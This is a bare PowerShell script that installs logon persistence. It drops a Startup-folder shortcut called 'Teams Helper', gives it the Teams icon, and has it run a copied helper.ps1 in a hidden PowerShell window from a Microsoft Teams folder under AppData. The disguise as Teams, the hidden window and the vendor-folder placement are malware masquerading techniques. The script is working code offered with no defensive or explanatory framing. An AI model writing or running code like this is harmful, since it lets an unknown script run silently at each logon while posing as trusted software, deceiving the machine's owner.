$startup = [Environment]::GetFolderPath('Startup')
$lnkPath = Join-Path $startup 'Teams Helper.lnk'

$shell = New-Object -ComObject WScript.Shell
$lnk = $shell.CreateShortcut($lnkPath)
$lnk.TargetPath = "$env:SystemRoot\System32\WindowsPowerShell\v1.0\powershell.exe"
$lnk.Arguments = '-NoProfile -WindowStyle Hidden -File "%APPDATA%\Microsoft\Teams\helper.ps1"'
$lnk.WindowStyle = 7
$lnk.IconLocation = "$env:LOCALAPPDATA\Microsoft\Teams\current\Teams.exe,0"
$lnk.Save()

Copy-Item -Path "$PSScriptRoot\helper.ps1" -Destination "$env:APPDATA\Microsoft\Teams\helper.ps1" -Force
